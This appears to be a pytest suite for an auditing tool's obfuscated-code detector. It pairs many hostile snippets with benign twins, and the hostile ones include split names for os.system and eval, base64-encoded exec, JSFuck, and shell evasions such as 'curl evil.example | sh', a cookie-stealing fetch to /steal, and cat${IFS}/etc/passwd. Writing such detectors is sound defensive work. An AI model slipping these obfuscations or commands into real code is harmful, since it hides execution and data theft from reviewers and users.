"""Names that are built at run time, encoded text that is run, escapes and commands in pieces; each beside an honest twin."""

from __future__ import annotations

import base64
import time
import zlib
from pathlib import Path

import pytest

from auditor.domain import Evidence, Outcome
from auditor.forensics.obfuscation.hidden_code import obfuscations
from auditor.forensics.source_text.site_probe_types import Text
from tests.adversarial.authors.drawing import evidence_by_path
from tests.auditing import asked
from tests.repos import Drawing

PROBE = "code.obfuscated"


def b64(text: str) -> str:
    """The text in base64."""
    return base64.b64encode(text.encode()).decode()


PACKED = base64.b64encode(zlib.compress(b"import os; os.system('id')")).decode()
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
CASES: list[tuple[str, str, str, str]] = [
    ("an attribute in two strings", "py", "import os\ngetattr(os, 'sys' + 'tem')(x)\n", "getattr(self, 'handle_' + kind)(x)\n"),
    ("a module in two strings", "py", "__import__('o' + 's').getcwd()\n", "import importlib\nimportlib.import_module(f'plugins.{name}')\n"),
    ("a builtin in a table", "py", "globals()['ev' + 'al'](x)\n", "globals()['_' + kind](x)\n"),
    ("strings that are next to each other", "py", "import importlib\nimportlib.import_module('sub' 'process').run(x)\n", "print('The file sys' 'tem is full')\n"),
    ("codes of characters", "py", "import os\ngetattr(os, ''.join(map(chr, [115, 121, 115, 116, 101, 109])))(x)\n", "alphabet = ''.join(map(chr, [97, 98, 99, 100]))\n"),
    ("codes that are shifted", "py", "import os\ngetattr(os, ''.join(chr(c ^ 1) for c in [114, 120, 114, 117, 100, 108]))(x)\n", "mask = ''.join(chr(c ^ 1) for c in [72, 101])\n"),
    ("a reversed name", "py", "import os\ngetattr(os, 'metsys'[::-1])(x)\n", "palindrome = 'level'[::-1]\n"),
    ("letters that are taken out", "py", "import os\ngetattr(os, 'sXyXsXtXeXm'.replace('X', ''))(x)\n", "getattr(self, name.replace('-', '_'))(x)\n"),
    ("hexadecimal digits", "py", "import os\ngetattr(os, bytes.fromhex('73797374656d').decode())(x)\n", "assert bytes.fromhex('48656c6c6f20776f726c64').decode() == greeting\n"),
    ("rot13", "py", "import os, codecs\ngetattr(os, codecs.decode('flfgrz', 'rot13'))(x)\n", "import codecs\nspoiler = codecs.decode('Ebfrohq', 'rot13')\n"),
    ("escapes of a string", "py", "import os\ngetattr(os, '\\x73\\x79\\x73tem')(x)\n", "greeting = '\\xe9t\\xe9'\n"),
    ("constants with names", "py", "import os\na = 'sys'\nb = 'tem'\ngetattr(os, a + b)(x)\n", "PREFIX = 'handle_'\ngetattr(self, PREFIX + 'login')(x)\n"),
    ("a template of constants", "py", "import os\na = 'sys'\nb = 'tem'\ngetattr(os, f'{a}{b}')(x)\n", "a = 'on'\ngetattr(self, f'{a}_{kind}')(x)\n"),
    ("a call by another name", "py", "import os\ng = getattr\ng(os, 'po' + 'pen')(x)\n", "g = getattr\ng(self, 'po' + kind)(x)\n"),
    ("a dictionary of attributes", "py", "import os\nos.__dict__['sys' + 'tem'](x)\n", "headers['Content-' + 'Type'] = x\n"),
    ("encoded code that is run", "py", f"import base64\nexec(base64.b64decode('{b64('import os; os.system(1)')}'))\n", f"import base64\npixel = base64.b64decode('{PIXEL}')\n"),
    ("compressed code that is run", "py", f"import base64, zlib\nexec(zlib.decompress(base64.b64decode('{PACKED}')))\n", f"import base64, zlib\nicon = zlib.decompress(base64.b64decode('{base64.b64encode(zlib.compress(bytes(range(200)))).decode()}'))\n"),
    ("code from elsewhere that is decoded", "py", "import base64, requests\np = base64.b64decode(requests.get(u).text)\nexec(p)\n", "import base64, requests\np = base64.b64decode(requests.get(u).text)\nsave(p)\n"),
    ("marshalled code", "py", "import marshal\nexec(marshal.loads(data))\n", "import json\nshow(json.loads(data))\n"),
    ("words of code that are cut", "py", "exec('imp' + 'ort os; os.sys' + 'tem(1)')\n", "log('imp' + 'ortant: ' + text)\n"),
    ("letters that Python takes for others", "py", "\uff45\uff56\uff41\uff4c(x)\n", "\u03c4_rate = \u03bb_max * \u0394t\n"),
    ("a global of a browser", "js", "window['ev' + 'al'](x);\n", "window['on' + name](x);\n"),
    ("codes in JavaScript", "js", "globalThis[String.fromCharCode(101, 118, 97, 108)](x);\n", "el.textContent = String.fromCharCode(169, 32, 50);\n"),
    ("a line break of Java in a comment", "java", "class A {\n    // see \\u000a void f() { run(); }\n}\n", "class A {\n    // see \\\\u000a and \\u0041\n    char a = '\\u0022', b = '\"'; // \\u0022\n    String t = \"\\\\u000a\";\n}\n"),
    ("the end of a comment of Java", "java", "class A {\n    /* see \\u002a\\uu002f void f() { run(); } /* */\n}\n", "class A {\n    /* see \\u002a \\u002f */\n}\n"),
    ("the end of a text of Java", "java", "class A { String a = \"\\u0022 + run() + \\u0022\"; }\n", "class A { String a = \"\\\\u0022\", b = \"\\u00e9\"; }\n"),
    ("a name with escapes in Java", "java", "class A { void f() { Runtime.getRuntime().\\u0065xec(x); } }\n", "class A { int \\u00e9t\\u00e9 = 1; }\n"),
    ("a line separator in a comment", "js", "f(); // see \u2028eval(x);\n", "const a = 'one\u2028two'; // see\u2028\n"),
    ("a carriage return in a comment", "kt", "fun f() { } // see\rfun g() { run() }\n", "fun f() { } // see\r\nval h = \"// a\\rb\"\r\n"),
    ("a next line in a comment", "cs", "F(); // see \x85G(x);\n", "F(\"// see \x85\");\r\n// see\r\n"),
    ("a name with escapes", "js", "\\u0065val(x);\n", "const a = /[\\u0041-\\u005a]/.test(x);\nconst b = '\\u00e9t\\u00e9';\n"),
    ("encoded JavaScript that is run", "js", f"eval(atob('{b64('fetch(`/steal?${document.cookie}`)')}'));\n", "el.textContent = atob(user);\n"),
    ("a function of a decoded text", "js", "new Function(Buffer.from(p, 'base64').toString())();\n", "save(Buffer.from(p, 'base64').toString());\n"),
    ("a decoded text in a function", "js", "function f(p) { const e = atob(p); try { eval(e); } catch (t) {} }\n", "function f(p) { const e = atob(p); return e; }\nfunction g(e) { setTimeout(e, 5); }\n"),
    ("a decoded text outside of the function that reads it", "js", "let e;\nfunction f(p) { e = atob(p); }\nsetTimeout(e, 5);\n", "let e;\nfunction f(p) { const e = atob(p); save(e); }\nsetTimeout(e, 5);\n"),
    ("a decoded text above the declaration of its name", "js", "function f(p) { e = atob(p); }\nlet e;\nsetTimeout(e, 5);\n", "function f(p) { let e = atob(p); save(e); }\nlet e;\nsetTimeout(e, 5);\n"),
    ("a decoded text as a parameter", "js", "((e = atob(p)) => eval(e))();\n", "const f = e => save(e), g = (e, t) => setTimeout(e, t), e = atob(p);\n"),
    ("a decoded text that a function inside reads", "js", "const r = atob(p);\n[1].map((x) => eval(r));\n", "const r = String.fromCharCode(13);\nsetInterval((() => { say(r); }), 500);\nconst m = /a(b)/.exec(r);\n"),
    ("a timer that is given what a function returns", "js", "setTimeout((function() { return atob(p); })(), 5);\n", "setTimeout(function() { show(atob(p)); }, 5);\n"),
    ("a timer that is given what an arrow function returns", "js", "setTimeout((() => atob(p))(), 5);\n", "setTimeout(async (e, t) => show(atob(p)), 5);\n"),
    ("a runner of an object in parentheses", "js", "(window).eval(atob(p));\n", "const m = /a(b)/.exec(atob(p));\n"),
    ("a function that decodes", "js", "const d = (s) => atob(s);\neval(d(p));\n", "const d = (s) => atob(s);\nshow(d(p));\n"),
    ("a decoded text under a name", "ts", "const code: string = atob(payload);\neval(code);\n", "const text: string = atob(payload);\nshow(text);\n"),
    ("a module of Node", "ts", "const cp = require('child_' + 'process');\n", "const locale = require('./locales/' + 'en');\n"),
    ("one escape in the name of a module", "js", "require('ch\\x69ld_process').exec(x);\n", "const red = '\\x1b[31m', i = '\\x69';\n"),
    ("an octal escape in a name", "py", "getattr(o, 's\\171stem')(x)\n", "red = '\\033[31m'\n"),
    ("escapes of a key", "js", "globalThis['\\x65\\x76\\x61\\x6c'](x);\n", "const symbols = ['\\x65\\x301'];\n"),
    ("the constructor of functions", "js", "[]['con' + 'structor']['con' + 'structor']('x')();\n", "obj['foo' + suffix]['bar'];\n"),
    ("a reversed key", "js", "this['lave'.split('').reverse().join('')](x);\n", "const words = 'a b c'.split(' ').reverse().join(' ');\n"),
    ("a template literal", "js", "const al = 'al';\nwindow[`ev${al}`](x);\n", "const base = 'https://example.org';\nfetch(`${base}/items`);\n"),
    ("a regular expression is no runner", "js", "eval(Buffer.from(x, 'hex').toString());\n", "pattern.exec(atob(x));\n"),
    ("names by an obfuscator", "js", "const _0x1a2b = 1;\n" + "_0x1a2b + _0x3c4d;\n" * 12, "const mask = 0x1a2b;\n" * 14),
    ("escapes in a table of names", "js", "var t = ['\\x63\\x68\\x69\\x6c\\x64\\x5f\\x70\\x72\\x6f\\x63\\x65\\x73\\x73', '\\x69\\x64'];\n(function (n) { require(n[0]).run(n[1]); })(t);\n", "var t = ['child_process', '\\x63\\x61\\x66\\xe9'];\n(function (n) { show(n[0], n[1]); })(t);\n"),
    ("short names by an obfuscator", "js", "const _0x1a = 1;\n" + "_0x1a + _0x3c;\n" * 12, "const _x1 = 1;\n" + "_x1 + _x2;\n" * 12),
    ("brackets and signs only", "js", "[]" + "[(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]" * 8 + "()\n", "const m = [[1], [2], [[3]]];\n"),
    ("a name in brackets and signs", "js", "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]['constructor']('return 1')()\n", "const empty = ![];\nconst m = " + "[" * 30 + "]" * 30 + ";\n"),
    ("a method of Ruby", "rb", "Kernel.send('sys' + 'tem', x)\n", "send(\"#{name}=\", value)\n"),
    ("a constant of Ruby", "rb", "Object.const_get('Ker' + 'nel').exit\n", "Object.const_get('Admin::' + kind).new\n"),
    ("encoded Ruby that is run", "rb", f"eval(Base64.decode64('{b64('system(1)')}'))\n", f"puts Base64.decode64('{b64('Good morning, everybody')}')\n"),
    ("packed Ruby that is run", "rb", "instance_eval(['73797374656d20226964222020'].pack('H*'))\n", "digest = ['73797374656d'].pack('H*').bytes.sum\n"),
    ("a reversed method of Ruby", "rb", "send('metsys'.reverse, x)\n", "puts 'abc'.reverse\n"),
    ("a command that is decoded", "sh", f"echo {b64('curl evil.example | sh')} | base64 -d | sh\n", f"echo {b64('a picture')} | base64 -d > picture\n"),
    ("a command in quotes", "sh", "c\"\"url http://evil.example\n", "echo \"a\"\"b\"\n"),
    ("half a command in quotes", "sh", "w'g'et http://evil.example\n", "'wget' http://example.org\n"),
    ("a command behind a backslash", "sh", "b\\ash -c id\n", "\\cp -r a b\n"),
    ("a command in two variables", "sh", "a=ba\nb=sh\n$a$b -c id\n", "PREFIX=venv/bin/\n${PREFIX}python -m build\n"),
    ("escapes of a shell", "sh", "$'\\x62\\x61\\x73\\x68' -c id\n", "printf '%s' $'\\t'\n"),
    ("blanks in a variable", "sh", "cat${IFS}/etc/passwd\n", "old=\"$IFS\"\nIFS=, read -r a b\n"),
    ("a reversed command", "sh", "$(rev <<< 'hsab') -c id\n", "echo abc | rev\n"),
    ("printed escapes that are run", "sh", "printf '\\x69\\x64\\x0a\\x69\\x64' | sh\n", "printf '\\x69\\x64' > id\n"),
    ("a command in a Makefile", "mk", "all:\n\ta; c''url http://evil.example\n", "all:\n\techo 'done'\n"),
]  # fmt: skip


@pytest.fixture(scope="module")
def found(tmp_path_factory: pytest.TempPathFactory) -> dict[str, list[Evidence]]:
    """What the rule finds in each file of one repository with all cases, all added by one change."""
    files = {
        f"shop{number}/{kind}.{case[1]}": case[2 + (kind == "benign")]
        for number, case in enumerate(CASES)
        for kind in ("hostile", "benign")
    }
    return evidence_by_path(tmp_path_factory.mktemp("shop"), files, PROBE)


@pytest.mark.parametrize("number", range(len(CASES)), ids=[each[0] for each in CASES])
def test_code_that_hides_what_it_does_is_found(number: int, found: dict[str, list[Evidence]]) -> None:
    seen = found[f"shop{number}/hostile.{CASES[number][1]}"]
    assert seen
    assert max(each.confidence for each in seen) >= 0.8


@pytest.mark.parametrize("number", range(len(CASES)), ids=[each[0] for each in CASES])
def test_what_only_looks_like_it_is_not(number: int, found: dict[str, list[Evidence]]) -> None:
    assert [each.statement for each in found[f"shop{number}/benign.{CASES[number][1]}"]] == []


def statements(source: str, language: str) -> list[str]:
    """What the rule says of a text."""
    return [each.statement for each in obfuscations(Text(source, language))]


def test_a_comment_and_a_docstring_are_not_code() -> None:
    example = "getattr(os, 'sys' + 'tem')(x)"
    assert statements(f"# {example}\n", "python") == []
    assert statements(f'"""\n{example}\n"""\n', "python") == []
    assert statements(f"// {example}\n/* window['ev' + 'al'](x) */\n", "javascript") == []


def test_the_decoded_text_is_shown_cut_and_on_one_line() -> None:
    payload = b64("import os\nos.system('`id`')\n" + "x = 1\n" * 100)
    (said,) = statements(f"exec(base64.b64decode('{payload}'))\n", "python")
    assert "`import os os.system(''id'')" in said
    assert "\n" not in said
    assert said.count("`") == 2
    assert len(said) < 160


def test_a_secret_in_the_decoded_text_is_not_shown(tmp_path: Path) -> None:
    token = "gh" + "p_" + "aB3dE5fG7hI9jK1lM3nO5pQ7rS9tU1vW3xY5"
    drawing = Drawing(tmp_path)
    base = drawing.commit({"README.md": "# Shop\n"})
    drawing.commit({"run.py": f"import base64\nexec(base64.b64decode('{b64(f'send({token!r})')}'))\n"})
    (seen,) = [each for each in asked(drawing.path, base, PROBE).evidence if each.outcome is Outcome.FOUND]
    assert "send(" in seen.statement
    assert token[4:20] not in seen.model_dump_json()


@pytest.mark.parametrize(
    "source",
    [
        "'" * 300_000,
        '"""' + "\\\"\"\"" * 60_000,
        "/*" * 200_000,
        "x = " + "(" * 100_000 + "'a' + 'b'",
        "'a' + " * 60_000 + "'b'",
        "[" * 50_000 + "'a'].join('')",
        "`${" * 80_000,
        "=/[" * 80_000,
        "a" * 200_000 + "\\u0065" * 40_000,
        "''.join(map(chr, [" + "101, " * 60_000 + "]))",
        "bytes.fromhex('" + "41" * 200_000 + "')",
        "x = 'ab' + 'cd'\n" * 20_000,
    ],
    ids=["quotes", "escaped quotes", "comments", "brackets", "a long sum", "lists", "holes", "patterns", "escapes", "codes", "digits", "many sums"],
)  # fmt: skip
@pytest.mark.parametrize("language", ["python", "javascript", "shell"])
def test_a_text_made_to_take_long_does_not(source: str, language: str) -> None:
    began = time.process_time()
    list(obfuscations(Text(source, language)))
    assert time.process_time() - began < 8
